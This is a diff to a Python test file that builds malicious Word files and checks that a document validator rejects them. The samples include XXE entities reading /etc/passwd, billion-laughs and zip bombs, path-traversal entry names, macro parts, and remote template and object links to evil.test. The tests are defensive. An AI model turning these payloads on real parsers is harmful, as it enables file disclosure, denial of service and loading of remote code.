@@ -8,7 +8,7 @@ import zipfile
 import zlib
 from collections.abc import Callable
 
-from tests.sops.word.build import OFFICE, docx, h, p, unzipped, zipped
+from tests.sops.word.build import OFFICE, docx, h, p, tbl, tr, unzipped, zipped
 
 NO_WORD = "This is not a Word document (.docx)."
 DAMAGED = "The file is incomplete or damaged: it cannot be opened as a Word document."
@@ -87,16 +87,16 @@ def _lying(name: str, packed: bytes, *, claimed: int) -> bytes:
         + packed
     )
     entry = struct.pack(
-        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(packed), claimed, len(name), 0, 0, 0, 0, 0, 0
-    )  # fmt: skip
+        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(packed), claimed, len(name), *[0] * 6
+    )
     directory_at = rest.index(b"PK\x01\x02")
     directory = bytearray(rest[directory_at : rest.index(b"PK\x05\x06")])
-    at = 0
-    while at < len(directory):  # everything stands later now
-        (offset,) = struct.unpack_from("<I", directory, at + 42)
-        struct.pack_into("<I", directory, at + 42, offset + len(head))
-        sizes = struct.unpack_from("<HHH", directory, at + 28)
-        at += 46 + sum(sizes)
+    position = 0
+    while position < len(directory):  # every entry has moved back
+        (offset,) = struct.unpack_from("<I", directory, position + 42)
+        struct.pack_into("<I", directory, position + 42, offset + len(head))
+        sizes = struct.unpack_from("<HHH", directory, position + 28)
+        position += 46 + sum(sizes)
     both = entry + name.encode() + bytes(directory)
     count = len(files) + 1
     end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(both), len(head) + directory_at, 0)
@@ -112,26 +112,11 @@ def overlapping() -> bytes:
     entries = b"".join(
         struct.pack(
             "<4sHHHHHHIIIHHHHHII",
-            b"PK\x01\x02",
-            20,
-            20,
-            0,
-            8,
-            0,
-            0x21,
-            0,
-            len(packed),
-            1 << 20,
-            len(n),
-            0,
-            0,
-            0,
-            0,
-            0,
-            0,
+            *(b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(packed), 1 << 20, len(name)),
+            *[0] * 6,
         )
-        + n
-        for n in names
+        + name
+        for name in names
     )
     return (
         head
@@ -164,6 +149,11 @@ def twice() -> bytes:
     )
 
 
+def macro_document() -> bytes:
+    types = unzipped(honest())["[Content_Types].xml"]
+    return with_part("[Content_Types].xml", types.replace(b"document.main+xml", b"document.macroEnabled.main+xml"))
+
+
 def encrypted_entries() -> bytes:
     data = bytearray(honest())
     at = data.index(b"PK\x01\x02")
@@ -171,6 +161,8 @@ def encrypted_entries() -> bytes:
     return bytes(data)
 
 
+NO_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+NO_BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
 XML = '<?xml version="1.0"?>'
 LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
 HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
@@ -181,10 +173,11 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "RTF": (lambda: b"{\\rtf1\\ansi hello}", NO_WORD),
     "old Word": (lambda: OLE + bytes(4_000), OLD),
     "encrypted": (lambda: OLE + bytes(400) + "EncryptedPackage".encode("utf-16-le") + bytes(400), PASSWORD),
-    "OpenDocument": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}), NO_WORD),
+    "OpenDocument": (
+        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}), NO_WORD
+    ),
     "workbook": (
-        lambda: zipped({"[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>', "xl/workbook.xml": b"<x/>"}),
-        NO_WORD,
+        lambda: zipped({"[Content_Types].xml": NO_TYPES, "xl/workbook.xml": b"<x/>"}), NO_WORD,
     ),
     "archive": (lambda: zipped({"readme.txt": b"hello"}), NO_WORD),
     "larger than 40 MB": (lambda: b"PK\x03\x04" + bytes(40 * 1024 * 1024), "The file is larger than 40 MB."),
@@ -197,18 +190,23 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "other root": (lambda: with_document("<html/>"), NO_WORD),
     "macros": (lambda: with_part("word/vbaProject.bin", OLE), MACROS),
     "macro document renamed": (
-        lambda: with_part("[Content_Types].xml", unzipped(honest())["[Content_Types].xml"].replace(b"document.main+xml", b"document.macroEnabled.main+xml")),
-        MACROS,
+        macro_document, MACROS,
     ),
     "password on the entries": (encrypted_entries, PASSWORD),
     "path upwards": (lambda: with_part("../../etc/cron.d/x", b"x"), OUTSIDE),
     "path from the root": (lambda: with_part("/etc/passwd", b"x"), OUTSIDE),
     "path of Windows": (lambda: with_part("word\\..\\..\\x", b"x"), OUTSIDE),
     "drive": (lambda: with_part("C:x", b"x"), OUTSIDE),
-    "external entity": (lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'), ENTITIES),
-    "parameter entity": (lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY % x SYSTEM "http://example.test/x.dtd">%x;]><d/>'), ENTITIES),
+    "external entity": (
+        lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'), ENTITIES
+    ),
+    "parameter entity": (
+        lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY % x SYSTEM "http://example.test/x.dtd">%x;]><d/>'), ENTITIES
+    ),
     "billion laughs": (lambda: with_document(f'{XML}<!DOCTYPE d [<!ENTITY l0 "lol">{LAUGHS}]><d>&l9;</d>'), ENTITIES),
-    "entities in UTF-16": (lambda: with_document('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d><d/>'.encode("utf-16")), ENTITIES),
+    "entities in UTF-16": (
+        lambda: with_document('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d><d/>'.encode("utf-16")), ENTITIES
+    ),
     "entities in a list of parts": (lambda: with_part("[Content_Types].xml", b"<!DOCTYPE d><Types/>"), ENTITIES),
     "entities in a header": (lambda: docx(h("目的"), parts={"header1": f"{XML}<!DOCTYPE d><d/>"}), ENTITIES),
     "bomb": (packed_zeros, TOO_LARGE),
@@ -218,20 +216,28 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "nine thousand parts": (many_entries, TOO_LARGE),
     "zips in zips": (nested_zips, NO_WORD),
     "template on another machine": (
-        lambda: with_relation("attachedTemplate", "file://server/share/x.dotm"), CALLS.format("file://server/share/x.dotm")
+        lambda: with_relation("attachedTemplate", "file://server/share/x.dotm"),
+        CALLS.format("file://server/share/x.dotm"),
     ),
     "template on another machine, four strokes": (
-        lambda: with_relation("attachedTemplate", "file:////server/share/x.dotm"), CALLS.format("file:////server/share/x.dotm")
+        lambda: with_relation("attachedTemplate", "file:////server/share/x.dotm"),
+        CALLS.format("file:////server/share/x.dotm"),
     ),
     "two main parts that differ in case": (lambda: zipped({**unzipped(honest()), "word/DOCUMENT.xml": b"<x/>"}), TWICE),
-    "template elsewhere": (lambda: with_relation("attachedTemplate", "https://evil.test/x.dotm"), CALLS.format("https://evil.test/x.dotm")),
-    "object elsewhere": (lambda: with_relation("oleObject", "\\\\evil.test\\share"), CALLS.format("\\\\evil.test\\share")),
-    "frame elsewhere": (lambda: with_relation("frame", "mhtml:https://evil.test!x"), CALLS.format("mhtml:https://evil.test!x")),
+    "template elsewhere": (
+        lambda: with_relation("attachedTemplate", "https://evil.test/x.dotm"), CALLS.format("https://evil.test/x.dotm")
+    ),
+    "object elsewhere": (
+        lambda: with_relation("oleObject", "\\\\evil.test\\share"), CALLS.format("\\\\evil.test\\share")
+    ),
+    "frame elsewhere": (
+        lambda: with_relation("frame", "mhtml:https://evil.test!x"), CALLS.format("mhtml:https://evil.test!x")
+    ),
     "five thousand levels": (lambda: docx("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000), TOO_DEEP),
     "a million paragraphs": (lambda: docx(*(f'<w:p w:i="{n:x}"/>' for n in range(700_000))), TOO_LARGE),
-    "a hundred thousand rows": (lambda: docx("<w:tbl>", *(f"<w:tr><w:tc><w:p><w:r><w:t>{n}</w:t></w:r></w:p></w:tc></w:tr>" for n in range(100_000)), "</w:tbl>"), TOO_LARGE),
+    "a hundred thousand rows": (lambda: docx(tbl(*(tr(f"{n}") for n in range(100_000)))), TOO_LARGE),
     "a hundred thousand attributes": (lambda: docx("<w:p ", *(f'a{n}="" ' for n in range(100_000)), "/>"), TOO_LARGE),
     "thirteen megabytes of text": (lambda: docx(p("".join(f"{n:x}" for n in range(2_500_000)))), TOO_LARGE),
-    "no body": (lambda: with_document('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'), NO_WORD),
+    "no body": (lambda: with_document(NO_BODY), NO_WORD),
     "no text": (lambda: docx("<w:p/>"), NO_TEXT),
 }  # fmt: skip
